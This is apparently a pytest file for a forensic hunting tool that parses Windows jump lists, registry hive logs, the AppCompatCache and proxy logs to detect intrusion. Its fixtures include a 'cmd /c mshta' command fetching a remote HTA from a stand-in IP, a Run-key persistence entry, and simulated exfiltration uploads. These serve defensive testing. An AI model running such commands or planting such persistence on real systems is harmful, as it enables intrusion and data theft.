"""Jump lists, transaction logs of hives, the cache of programs seen, proxies; files beside others."""

from __future__ import annotations

import random
import struct

import pytest

from firstbell.drill.intrusion.hives import make_tree, write_hive
from firstbell.investigate.hunts.readers.found import UnreadableSourceError
from firstbell.investigate.hunts.readers.hive_logs import apply_logs, hash_marvin, list_entries
from firstbell.investigate.hunts.readers.jumplists import read_jumplist
from firstbell.investigate.hunts.readers.proxies import read_proxy
from tests.documents.compound import make_compound
from tests.investigate.hunts.made import MadeHost, signs_of
from tests.investigate.hunts.test_desktops import make_link

RECENT = "/C/Users/bob/AppData/Roaming/Microsoft/Windows/Recent"
EVIL_LINK = make_link("/c mshta http://203.0.113.5/x.hta")
USED_NS = 1_700_000_000 * 10**9
SOFTWARE = "/C/Windows/System32/config/SOFTWARE"
RUN = r"Microsoft\Windows\CurrentVersion\Run"
CLEAN = {RUN: {"SecurityHealth": r"C:\Windows\system32\SecurityHealthSystray.exe"}}
EVIL = {
    RUN: {"SecurityHealth": r"C:\Windows\system32\SecurityHealthSystray.exe", "Upd": r"C:\Users\Public\u.exe"}
}


def make_uses(version: int) -> bytes:
    """The stream DestList of a jump list with one entry, of the stream "1"."""
    head = struct.pack("<II", version, 1) + bytes(24)
    path = r"C:\Windows\System32\cmd.exe".encode("utf-16-le")
    size = 114 if version == 1 else 130
    entry = bytearray(size)
    struct.pack_into("<I", entry, 88, 1)
    struct.pack_into("<Q", entry, 100, USED_NS // 100 + 116_444_736_000_000_000)
    struct.pack_into("<H", entry, size - 2, len(path) // 2)
    return head + bytes(entry) + path + (b"" if version == 1 else bytes(4))


@pytest.mark.parametrize("version", [1, 4])
def test_a_jump_list_tells_what_was_opened_and_when_it_was_used(version: int) -> None:
    data = make_compound({"1": EVIL_LINK, "DestList": make_uses(version)})
    made = MadeHost()
    made.add_night({f"{RECENT}/AutomaticDestinations/9b9cdc69c1c24e2b.automaticDestinations-ms": data})
    (trace,) = made.hunt().traces
    assert (trace.sign, trace.source, trace.time_ns) == ("entry.opened", "links/jumplist", USED_NS)


def test_a_jump_list_of_links_one_after_the_other_is_read_and_noise_is_refused() -> None:
    harmless = make_link("/k cd")
    data = bytes(16) + harmless + b"\xab\xfb\xbf\xba" + EVIL_LINK
    found = [one.fields["Arguments"] for one in read_jumplist(data, RECENT, {})]
    assert found == ["/k cd", "/c mshta http://203.0.113.5/x.hta"]
    with pytest.raises(UnreadableSourceError):
        list(read_jumplist(b"noise" * 100, RECENT, {}))


def write_log(hive: bytes, sequence: int) -> bytes:
    """A transaction log with one entry that holds all pages of a hive."""
    pages = hive[4096:]
    body = struct.pack("<II", 0, len(pages)) + pages
    body += bytes(-(40 + len(body)) % 512)
    head = b"HvLE" + struct.pack("<5I", 40 + len(body), 0, sequence, len(pages), 1)
    first = struct.pack("<Q", hash_marvin(body))
    entry = head + first + struct.pack("<Q", hash_marvin(head + first)) + body
    return hive[:512] + entry


def make_dirty(hive: bytes, first: int, second: int) -> bytes:
    """The hive as it lies while Windows uses it: its sequence numbers differ."""
    head = bytearray(hive)
    struct.pack_into("<II", head, 4, first, second)
    return bytes(head)


def test_what_windows_had_not_written_into_a_hive_yet_is_read_from_its_log() -> None:
    old, new = write_hive(make_tree(CLEAN)), write_hive(make_tree(EVIL))
    made = MadeHost()
    made.add_night({SOFTWARE: old})
    made.add_night({SOFTWARE: make_dirty(old, 9, 8), SOFTWARE + ".LOG1": write_log(new, 8)})
    (trace,) = made.hunt().traces
    assert trace.sign == "stay.run"
    assert "u.exe" in trace.message


def test_a_log_that_does_not_belong_there_or_is_damaged_changes_nothing() -> None:
    old, new = write_hive(make_tree(CLEAN)), write_hive(make_tree(EVIL))
    log = write_log(new, 8)
    assert apply_logs(old, [log]) == (old, 0)
    dirty = make_dirty(old, 9, 8)
    assert apply_logs(dirty, [write_log(new, 12)])[1] == 0
    assert apply_logs(dirty, [b"", log])[1] == 1
    rng = random.Random(4)
    for _ in range(300):
        data = bytearray(log)
        data[rng.randrange(512, len(data))] ^= 1 << rng.randrange(8)
        assert len(list(list_entries(bytes(data)))) == 0


def test_what_lies_beside_a_file_is_read_again_when_it_alone_changes() -> None:
    old, new = write_hive(make_tree(CLEAN)), write_hive(make_tree(EVIL))
    dirty = make_dirty(old, 9, 8)
    made = MadeHost()
    made.add_night({SOFTWARE: dirty, SOFTWARE + ".LOG1": write_log(old, 8)})
    assert made.hunt().traces == []
    made.add_night({SOFTWARE: dirty, SOFTWARE + ".LOG1": write_log(new, 8)})
    assert signs_of(made.hunt()) == ["stay.run"]


def make_cache(program: str, *, header: int) -> bytes:
    """The cache of programs that were seen, with one of them."""
    path = program.encode("utf-16-le")
    rest = struct.pack("<QI", 0, 0) if header != 128 else struct.pack("<HIIQ", 0, 0, 0, 0)
    entry = b"10ts" + bytes(4) + struct.pack("<IH", 2 + len(path) + len(rest), len(path)) + path + rest
    return struct.pack("<I", header if header != 128 else 128).ljust(header, b"\0") + entry


@pytest.mark.parametrize("header", [0x30, 0x34, 128])
def test_a_tool_in_the_cache_of_programs_seen_is_named(header: int) -> None:
    path = r"ControlSet001\Control\Session Manager\AppCompatCache"
    cache = make_cache(r"C:\Users\Public\AdFind.exe", header=header)
    hive = write_hive(make_tree({"Select": {"Current": 1}, path: {"AppCompatCache": cache}}))
    made = MadeHost()
    made.add_night({"/C/Windows/System32/config/SYSTEM": hive})
    traces = [one for one in made.hunt().traces if one.sign == "tool.named"]
    assert [one.strength for one in traces] == ["pointing"]
    assert "AdFind.exe" in traces[0].message


SQUID = (
    "1700000000.123    921 10.1.0.14 TCP_MISS/200 507 POST http://mega.nz/upload jsmith "
    "HIER_DIRECT/203.0.113.4 text/html\n"
    "1700000001.123     21 10.1.0.14 TCP_MISS/200 507 GET http://district.example/ - "
    "HIER_DIRECT/10.0.0.4 text/html\n"
)
ZSCALER = (
    "2023-11-14T22:13:20Z nss CEF:0|Zscaler|NSSWeblog|6.2|Allowed|Allowed|3|act=Allowed app=HTTPS "
    "dhost=drop.example dst=203.0.113.4 src=10.1.0.14 suser=jsmith@district.example "
    "request=drop.example/put out=2147483648 in=900 rt=1700000000000\n"
)
BLUECOAT = (
    "#Fields: date time time-taken c-ip cs-username cs-host cs-uri-path sc-bytes cs-bytes\n"
    "2023-11-14 22:13:20 12 10.1.0.14 - drop.example /put 300 2147483648\n"
)


def test_a_proxy_that_counts_what_was_sent_is_a_flow_and_squid_is_not() -> None:
    made = MadeHost("proxy01")
    made.add_night(
        {"/var/log/squid/access.log": SQUID.encode(), "/var/log/zscaler-web.log": ZSCALER.encode()},
        paths=["/"],
    )
    result = made.hunt()
    traces = {one.sign: one for one in result.traces}
    assert set(traces) == {"theft.browser", "theft.flow"}
    assert traces["theft.flow"].more["bytes_sent"] == 2_147_483_648
    assert "drop.example" in traces["theft.flow"].message
    assert traces["theft.browser"].account == "jsmith"
    sources = {one.source for one in result.coverage if one.state == "covered"}
    assert "text/proxy" in sources


def test_columns_of_a_proxy_are_read_by_their_names() -> None:
    (found,) = read_proxy(BLUECOAT.encode(), "/var/log/bluecoat.log", {})
    assert (found.source, found.fields["BytesSent"], found.fields["Host"]) == (
        "flow/proxy",
        "2147483648",
        "drop.example",
    )
    assert found.time_ns == USED_NS
